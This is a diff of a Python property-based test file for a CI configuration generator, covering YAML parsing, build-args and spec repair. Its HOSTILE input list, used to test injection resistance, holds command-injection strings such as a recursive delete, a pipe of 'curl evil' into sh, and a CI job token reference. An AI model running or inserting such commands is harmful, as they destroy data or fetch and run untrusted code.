@@ -9,6 +9,7 @@ checkers. GENCI_EXAMPLES sets how many specs are generated (default 25, well und
 from __future__ import annotations
 
 import copy
+import csv
 import json
 import os
 import re
@@ -16,6 +17,7 @@ import re
 from hypothesis import HealthCheck, Phase, given, settings
 from hypothesis import strategies as st
 from hypothesis_jsonschema import from_schema
+import yaml as pyyaml
 from ruamel.yaml import YAML
 
 from generator.pipeline import generate
@@ -35,6 +37,7 @@ HOSTILE = [
     "*alias", "&anchor", "!tag", "%directive", "@at", "- item", "? key", "|", ">", "ünïcødé ✓ 😀",
     "$HOME", "$$", "${CI_JOB_TOKEN}", "\\n", "'${{'", "}} {{", "x" * 3000, " leading space", "trailing ",
     "null", "true", "0x1F", "~", "\u2028sep", "tab\there", "; rm -rf / #", "&& curl evil | sh",
+    "no", "on", "1:30", "0o17", "nel\u0085", "\u0085", "ps\u2029", 'a "b", c', "=", "<<",
 ]
 
 
@@ -85,6 +88,14 @@ def repair(spec: dict) -> dict:
         if docker.get("github_daemon") == "service":
             docker["dind_digest"] = "sha256:" + "0" * 64
     triggers = spec.setdefault("triggers", {})
+    # Every push pattern must be reachable (GC114), and some trigger must exist (GC113).
+    for kind in ("branches", "tags"):
+        pushed = push.get(kind, ["main"] if kind == "branches" else ["v*"])
+        triggers[kind] = list(dict.fromkeys(triggers.get(kind, ["main"] if kind == "branches" else ["v*"]) + pushed))
+    triggers["pull_requests"] = True
+    spec["targets"] = {platform: f"out/{platform}.yml" for platform in spec["targets"]}  # never a spec (GC115)
+    if not spec.get("check_job"):
+        spec.pop("check_requirements", None)
     # Cron ranges are a semantic rule (GC112), tested on its own; keep only expressions that pass it.
     from generator.rules import _cron_problem
 
@@ -92,8 +103,9 @@ def repair(spec: dict) -> dict:
     runners["github"] = ["ubuntu-24.04"]
     if "gitlab" in spec["targets"]:
         runners["gitlab"] = runners.get("gitlab") or ["docker"]
-        if push.get("auth") == "oidc":
-            push["auth"] = "token"
+        if push.get("auth", "token") in ("oidc", "token"):
+            # The platforms' own tokens each reach only their own registry: one spec for both needs secrets.
+            push["auth"] = "secrets" if "github" in spec["targets"] else "token"
         for image in spec["images"]:
             image["platforms"] = image.get("platforms", ["linux/amd64"])[:1]
             if image.get("cache") == "gha":
@@ -112,9 +124,10 @@ def repair(spec: dict) -> dict:
         push.setdefault("aws_region", "eu-west-1")
     for index, image in enumerate(spec["images"]):
         image["id"] = f"img{index}"
-        if auth == "token" and "github" in spec["targets"]:
-            moved = "ghcr.io/" + image["repository"].split("/", 1)[1]
-            image["repository"] = moved if len(moved) <= 200 else f"ghcr.io/acme/img{index}"
+        if auth == "token":
+            host = "ghcr.io/" if "github" in spec["targets"] else "registry.gitlab.com/"
+            moved = host + image["repository"].split("/", 1)[1]
+            image["repository"] = moved if len(moved) <= 200 else f"{host}acme/img{index}"
     return spec
 
 
@@ -137,7 +150,13 @@ def hostile_specs(draw):
 
 
 def _yaml(text: str):
-    return YAML(typ="safe").load(text)
+    """The output as a YAML 1.1 reader (GitLab's kind) sees it, after checking a 1.2 reader agrees.
+
+    PyYAML is independent of ruamel, which wrote the file, so it cannot share ruamel's losses.
+    """
+    modern, legacy = YAML(typ="safe").load(text), pyyaml.safe_load(text)
+    assert modern == legacy
+    return legacy
 
 
 def _check_github(doc: dict, spec: dict, placed: dict) -> None:
@@ -149,7 +168,8 @@ def _check_github(doc: dict, spec: dict, placed: dict) -> None:
             steps = {step["name"]: step for step in job["steps"]}
             assert github_evaluate(steps[f"Test img{index}"]["env"]["TEST_SCRIPT"]) == placed[f"test{index}"]
             args = github_evaluate(steps[f"Build img{index}"]["with"]["build-args"])
-            assert args == f"HOSTILE={placed[f'arg{index}']}"
+            # build-push-action reads the lines as CSV and joins each line's fields back with ","
+            assert [",".join(row) for row in csv.reader(args.split("\n"))] == [f"HOSTILE={placed[f'arg{index}']}"]
             for step in job["steps"]:
                 assert "${{" not in step.get("run", "")
 
@@ -213,3 +233,49 @@ def test_the_evaluator_catches_live_expressions():
         except AssertionError:
             continue
         raise AssertionError(f"{live!r} passed as inert")
+
+
+NEWLINE_PATHS = [
+    ("name",), ("targets", "github"), ("targets", "gitlab"), ("images", 0, "repository"), ("images", 0, "id"),
+    ("images", 0, "context"), ("images", 0, "dockerfile"), ("runners", "github", 0), ("runners", "gitlab", 0),
+    ("triggers", "branches", 0), ("triggers", "tags", 0), ("push", "branches", 0), ("push", "tags", 0),
+]
+
+
+def _get(node, path):
+    for part in path:
+        if isinstance(node, dict) and part in node or isinstance(node, list) and isinstance(part, int) and part < len(node):
+            node = node[part]
+        else:
+            return None
+    return node
+
+
+@st.composite
+def specs_with_a_trailing_newline(draw):
+    spec = repair(draw(from_schema(copy.deepcopy(spec_schema()))))
+    spec["images"][0].setdefault("context", ".")
+    spec["name"] = "acme"  # JSON escapes astral characters as surrogate pairs, which gen-ci refuses on their own
+    present = [path for path in NEWLINE_PATHS if isinstance(_get(spec, path), str)]
+    path = draw(st.sampled_from(present))
+    _get(spec, path[:-1])[path[-1]] += "\n"
+    return spec, path
+
+
+def test_a_trailing_newline_in_any_checked_field_is_refused(tmp_path):
+    from generator.diagnostics import json_path
+    from tests.conftest import invoke
+
+    @SETTINGS
+    @given(specs_with_a_trailing_newline())
+    def refuse_one(case):
+        spec, path = case
+        spec_file = tmp_path / "spec.yml"
+        # YAML refuses raw C1 controls; escaped as \uXXXX they stay valid JSON, which is YAML 1.2.
+        text = re.sub("[\x7f-\x9f]", lambda m: f"\\u{ord(m.group()):04x}", json.dumps(spec, ensure_ascii=False))
+        spec_file.write_text(text, encoding="utf-8")
+        result = invoke("render", str(spec_file), "--target", next(iter(spec["targets"])))
+        assert result.exit_code == 2, (path, result.stdout[:300])
+        assert f"error[GC013]: {json_path(path)}:" in result.stderr, result.stderr
+
+    refuse_one()
